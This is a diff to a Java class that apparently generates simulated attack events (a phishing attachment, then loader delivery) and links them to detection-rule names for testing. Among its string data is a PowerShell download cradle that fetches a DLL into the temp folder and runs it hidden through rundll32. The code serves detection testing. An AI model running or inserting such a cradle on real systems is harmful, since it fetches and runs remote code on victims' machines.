@@ -61,6 +61,7 @@ final class AttackPlan {
   static final String ENCRYPTOR_HASHES = Software.hashes("actor:encryptor");
 
   // ------------------------------------------------------------ rule file names (rules/lovcen)
+  static final String R_PHISH = "file_event_win_lovcen_outlook_macro_document";
   static final String R_OFFICE = "proc_creation_win_lovcen_office_spawns_shell";
   static final String R_PS_CMD = "proc_creation_win_lovcen_powershell_download_cradle";
   static final String R_PS_SCRIPT = "posh_ps_lovcen_download_cradle";
@@ -159,7 +160,7 @@ final class AttackPlan {
     int wordPid = pid();
     String doc = "C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q3K1ZT7B\\" + PHISH_DOC;
     add(t - 20 * SEC, p, "phishing-attachment", "T1566.001", ev -> ev.fileCreate(p, t - 20 * SEC,
-        Software.OFFICE + "OUTLOOK.EXE", u, acct, pid(), r.nextLong(), doc, null));
+        Software.OFFICE + "OUTLOOK.EXE", u, acct, pid(), r.nextLong(), doc, null), R_PHISH);
     add(t, p, "phishing-attachment", "T1566.001", ev -> ev.processCreate(p, t, proc(Software.OFFICE + "WINWORD.EXE",
         "\"" + Software.OFFICE + "WINWORD.EXE\" /n \"" + doc + "\" /o \"\"", Software.OFFICE + "OUTLOOK.EXE",
         "\"" + Software.OFFICE + "OUTLOOK.EXE\" ", "Microsoft Word", "WinWord.exe", Software.hashes(
@@ -196,7 +197,7 @@ final class AttackPlan {
         + "$p=\"$env:TEMP\\vsbmr.dll\"\n(New-Object Net.WebClient).DownloadFile($u,$p)\n"
         + "Start-Process rundll32.exe -ArgumentList \"$p,BNJAFSRSQIX\" -WindowStyle Hidden";
     add(t2 + 5 * SEC, p, "loader-delivery", "T1105", ev -> ev.scriptBlock(p, t2 + 5 * SEC, stage2, u, psPid,
-        victim.sid(), r.nextLong(), r.nextLong(), ""));
+        victim.sid(), r.nextLong(), r.nextLong(), ""), R_PS_SCRIPT);
     add(t2 + 7 * SEC, p, "loader-delivery", "T1105", ev -> ev.fileCreate(p, t2 + 7 * SEC, Software.POWERSHELL, u,
         acct, psPid, ps, LOADER, null));
 
